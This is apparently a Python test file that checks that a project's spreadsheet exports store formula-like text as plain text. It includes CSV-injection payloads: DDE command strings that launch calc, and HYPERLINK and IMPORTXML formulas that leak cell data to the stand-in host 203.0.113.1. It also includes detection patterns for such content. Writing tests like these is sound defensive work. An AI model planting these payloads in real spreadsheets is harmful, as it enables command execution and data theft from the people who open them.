"""Text that looks like a formula goes into every field and comes out of every spreadsheet as text.

The payloads are of the kinds that OWASP's page on CSV injection names: formulas, commands by DDE, addresses that send
data away; and those of others that lie beside the clone.
"""

import datetime
import io
import re
import shutil
import subprocess
import zipfile
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from openpyxl.workbook.defined_name import DefinedName
from openpyxl.worksheet.datavalidation import DataValidation

from exports.cooperation import forms_of
from exports.edition import Edition
from exports.tracker import to_partner_xlsx, to_xlsx
from tests.golden.plans import Maker
from tests.golden.plans import edition as made
from workbook.operations import AddRecord, Refused
from workbook.records import RECORD_TYPES, HealthRound, Partner

PAYLOADS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://203.0.113.1/?leak="&A1,"Click")',
    '=IMPORTXML(CONCAT("http://203.0.113.1/?v=",A1),"//a")',
    "=WEBSERVICE(A1)",
    '=DDE("cmd";"/C calc";"x")',
    'DDE ("cmd";"/C calc";"!A0")A0',
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "=\n1+1",
    "＝1+1",
    "\u202e=1+1",
    "'=1+1",
    '"=1+1"',
    ";=1+1",
    "_x003D_1+1",
    '=1+1","=2+2',
    "<f>1+1</f>",
    "]]><f>1+1</f>",
    "&=1+1",
    '&"Courier"=1+1',
)
OTHERS = Path(__file__).parents[3] / "shared" / "real" / "hostile" / "payloads"
OURS = re.compile(r"COUNTIF\(\$?[A-Z]+\$?\d+:\$?[A-Z]+\$?\d+,\s*[A-Z$\d\"*&]+\)(?:\+COUNTIF\([^()]*\))*")
"""The only formula of ours: how often a letter stands in a column of the RACI grid."""
RANGES = re.compile(r"(?:(?:^|,)(?:'[\w -]+'|\w+)!\$?[A-Z]*\$?\d*(?::\$?[A-Z]*\$?\d*)?)+")
REACHING = re.compile(r"cmd|HYPERLINK|WEBSERVICE|IMPORT|DDE|INDIRECT|\||\[|203\.0\.113", re.IGNORECASE)
ACTIVE_PARTS = ("externalLink", "connections", "queryTable", "customXml", "vbaProject", "oleObject", "webExtension")


def payloads() -> tuple[str, ...]:
    found = [*PAYLOADS]
    for path in sorted(OTHERS.glob("*")) if OTHERS.is_dir() else ():
        lines = path.read_text(encoding="utf-8").splitlines()
        found += [line.strip("` ") for line in lines if line.strip("` ")[:1] in ("=", "+", "-", "@", "D")]
    return tuple(dict.fromkeys(found))


@pytest.fixture(scope="module")
def edition() -> Edition:
    """A plan with a payload in every field of text, records of each type for each payload."""
    maker = Maker()
    add(maker, "plan", "=1+1", currency="EUR")
    first = add(maker, "partners", "=1+1")
    add(maker, "health_rounds", "=cmd|' /C calc'!A0", asked=(first,))
    for payload in payloads():
        add(maker, "partners", payload, sector="cultural_institution")
        add(maker, "objectives", payload)
        activity = add(maker, "activities", payload, start=datetime.date(2027, 1, 4))
        add(maker, "responsibilities", payload, activity=activity, partner=first, letters=("A", "R"))
        add(maker, "resources", payload, kind="offer", provider=first)
        add(maker, "contacts", payload, partner=first)
        indicator = add(maker, "indicators", payload)
        add(maker, "readings", payload, indicator=indicator, date=datetime.date(2027, 2, 1), value=1)
        add(maker, "risks", payload)
    return replace(made(maker.book), personal=True)


def add(maker: Maker, type_name: str, payload: str, **given: Any) -> str:
    """Add a record with the payload in every field of text that takes it."""
    fields = RECORD_TYPES[type_name].fields
    words = {one.name: payload for one in fields if one.kind in ("line", "text") and not one.internal}
    values = {name: word for name, word in words.items() if name != "code"} | given
    while refusing := refused_fields(maker, type_name, values):
        assert refusing <= words.keys(), (type_name, refusing)
        values = {name: value for name, value in values.items() if name not in refusing}
    return str(maker.plan(**values)) if type_name == "plan" else maker.add(type_name, **values)


def refused_fields(maker: Maker, type_name: str, values: dict[str, Any]) -> set[str]:
    try:
        AddRecord(type_name, values).plan(maker.book)
    except Refused as refused:
        return {problem.field for problem in refused.problems}
    return set()


def documents(edition: Edition) -> Iterator[tuple[str, bytes]]:
    partner, round_ = edition.book.all(Partner)[0], edition.book.all(HealthRound)[0]
    yield "tracker.xlsx", to_xlsx(edition)
    yield "tracker of a partner.xlsx", to_partner_xlsx(edition, partner.id)
    (form,) = forms_of(edition, round_)
    yield "form.xlsx", form.content


def active(content: bytes) -> list[str]:
    """Return what a spreadsheet holds that a program might work out, follow or run, and that is not ours."""
    found = []
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        for name in archive.namelist():
            held = archive.read(name).decode(errors="replace")
            found += [f"{name}: {part}" for part in ACTIVE_PARTS if part.casefold() in name.casefold()]
            found += [f"{name}: {one}" for one in re.findall(r"<(?:\w+:)?(?:ddeLink|oleLink|hyperlink)\b[^>]*>", held)]
            found += [f"{name}: external" for _ in re.findall(r'TargetMode="External"', held)]
            formulas = re.findall(r"<(?:\w+:)?f\b[^>]*?(?:/>|>(.*?)</(?:\w+:)?f>)", held, re.DOTALL)
            found += [f"{name}: {one}" for one in formulas if not OURS.fullmatch(one.replace("&quot;", '"'))]
            names = re.findall(r"<definedName\b[^>]*>(.*?)</definedName>", held, re.DOTALL)
            found += [f"{name}: {one}" for one in names if not RANGES.fullmatch(one)]
            rules = re.findall(r"<(?:\w+:)?(?:formula\d?)>(.*?)</", held, re.DOTALL)
            found += [f"{name}: {one}" for one in rules if REACHING.search(one)]
    return found


def test_what_must_not_be_there_would_be_seen() -> None:
    book = openpyxl.Workbook()
    sheet = book.worksheets[0]
    sheet["A1"], sheet["A2"] = PAYLOADS[1], "a link"
    sheet["A2"].hyperlink = "http://203.0.113.1/"
    book.defined_names["evil"] = DefinedName("evil", attr_text="HYPERLINK(Sheet!$A$1)")
    sheet.add_data_validation(DataValidation("list", formula1='INDIRECT("[a.xlsx]A!A1")', sqref="B1"))
    held = io.BytesIO()
    book.save(held)
    assert len(active(held.getvalue())) == 5


def test_no_text_becomes_a_formula_a_link_or_a_command(edition: Edition) -> None:
    for name, content in documents(edition):
        assert (name, active(content)) == (name, [])


def test_every_text_that_looks_like_a_formula_stands_in_a_cell_of_text(edition: Edition) -> None:
    seen = set()
    for name, content in documents(edition):
        for sheet in openpyxl.load_workbook(io.BytesIO(content)):
            for cell in (cell for row in sheet.iter_rows() for cell in row):
                text = cell.value if isinstance(cell.value, str) else ""
                if text.lstrip()[:1] in ("=", "+", "-", "@") and cell.data_type != "f":
                    assert (cell.data_type, cell.quotePrefix or text[:1].isspace()) == ("s", True), (name, cell, text)
                    seen.add(text)
    assert {"=1+1", "=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0"} <= seen


@pytest.mark.skipif(shutil.which("soffice") is None, reason="LibreOffice is not installed")
def test_text_is_still_text_after_another_program_saved_it(edition: Edition, tmp_path: Path) -> None:
    names = []
    for name, content in documents(edition):
        (tmp_path / name).write_bytes(content)
        names.append(str(tmp_path / name))
    profile = f"-env:UserInstallation={(tmp_path / 'profile').as_uri()}"
    command = ["soffice", profile, "--headless", "--convert-to", "xlsx", "--outdir", str(tmp_path / "out"), *names]
    subprocess.run(command, check=True, capture_output=True, timeout=120)
    for name in names:
        saved = (tmp_path / "out" / Path(name).name).read_bytes()
        assert (name, active(saved)) == (name, [])
